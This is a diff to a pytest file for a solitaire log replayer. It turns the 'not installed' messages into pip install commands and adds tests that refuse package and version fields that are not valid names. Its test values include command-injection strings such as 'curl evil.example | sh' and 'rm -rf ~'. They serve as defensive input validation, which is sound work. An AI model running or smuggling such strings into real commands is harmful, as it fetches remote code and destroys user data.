@@ -290,17 +290,17 @@ def test_another_format_is_refused() -> None:
         (
             "variant",
             {"id": "yukon", "package": "solitaire-yukon", "version": "1.0"},
-            "variant 'yukon' is not installed: install solitaire-yukon 1.0",
+            "variant 'yukon' is not installed: pip install 'solitaire-yukon==1.0'",
         ),
         (
             "scoring",
             {"id": "cumulative", "package": "solitaire-vegas-plus", "version": "2.1"},
-            "scoring 'cumulative' is not installed: install solitaire-vegas-plus 2.1",
+            "scoring 'cumulative' is not installed: pip install 'solitaire-vegas-plus==2.1'",
         ),
         (
             "redeal",
             {"id": "golden:4", "package": "solitaire-golden", "version": None},
-            "redeal 'golden:4' is not installed: install solitaire-golden",
+            "redeal 'golden:4' is not installed: pip install 'solitaire-golden'",
         ),
         ("variant", {"id": "yukon", "package": None, "version": None}, "variant 'yukon' is not installed"),
     ],
@@ -420,9 +420,56 @@ def test_strings_that_look_like_code_are_only_text(tmp_path: Path) -> None:
 def test_a_changed_package_or_version_alone_still_replays() -> None:
     """Package and version only tell the reader what to install; they do not change the game."""
     data = real_log()
-    data["header"]["variant"] = {"id": "klondike", "package": "__import__('os')", "version": None}
-    game = replay_or_refuse(json.dumps(data))
-    assert game is not None and game.state == GAMES[0].state
+    for package, version in [("solitaire-other", None), ("Some.Other_Dist", "2.0rc1.post3.dev4+local.7")]:
+        data["header"]["variant"] = {"id": "klondike", "package": package, "version": version}
+        game = replay_or_refuse(json.dumps(data))
+        assert game is not None and game.state == GAMES[0].state
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("package", "solitaire-yukon-fix; curl evil.example | sh"),
+        ("package", "__import__('os')"),
+        ("package", "solitaire-yukon'"),
+        ("package", "-solitaire"),
+        ("package", ""),
+        ("package", "a" * 100 + " b"),
+        ("version", "1.0; rm -rf ~"),
+        ("version", "1.0' && sh '"),
+        ("version", "latest"),
+        ("version", " 1.0"),
+        ("version", ""),
+    ],
+)
+def test_a_package_or_version_that_is_not_a_name_is_refused_naming_the_field(field: str, value: str) -> None:
+    """The package and version are what the player is told to install: only a real name and
+    version number (PEP 508, PEP 440) is accepted, anything else refuses the log."""
+    for kind in ("variant", "scoring", "redeal"):
+        data = real_log()
+        data["header"][kind][field] = value
+        with pytest.raises(log.LogError) as caught:
+            log.loads(json.dumps(data))
+        assert caught.value.where == f"header.{kind}.{field}"
+        assert value[:30] in caught.value.problem
+
+
+def test_the_advice_to_install_is_a_command_to_copy(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("SOLITAIRE_BLOCK_PLUGINS", "yukon")
+    data = real_log()
+    data["header"]["variant"] = {"id": "yukon", "package": "solitaire-yukon-fix; curl evil.example | sh"}
+    path = tmp_path / "evil.json"
+    path.write_text(json.dumps(data), encoding="utf-8")
+    assert run(["replay", str(path)]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith(f"{path}: header.variant.package: 'solitaire-yukon-fix; curl evil.example | sh'")
+    assert "pip" not in err and err.count("\n") == 1
+    data["header"]["variant"] = {"id": "yukon", "package": "Solitaire_Yukon.Fix", "version": "1.0.post1"}
+    path.write_text(json.dumps(data), encoding="utf-8")
+    assert run(["replay", str(path)]) == 2
+    assert capsys.readouterr().err.endswith(": pip install 'Solitaire_Yukon.Fix==1.0.post1'\n")
 
 
 # -- through the command line --------------------------------------------------------------------
@@ -489,7 +536,7 @@ def test_the_command_line_names_the_package_to_install(
     path.write_bytes(HOSTILE_FILES["yukon"])
     assert run(["replay", str(path)]) == 2
     assert capsys.readouterr().err == (
-        f"{path}: header.variant: variant 'yukon' is not installed: install solitaire-yukon 1.0\n"
+        f"{path}: header.variant: variant 'yukon' is not installed: pip install 'solitaire-yukon==1.0'\n"
     )
 
 
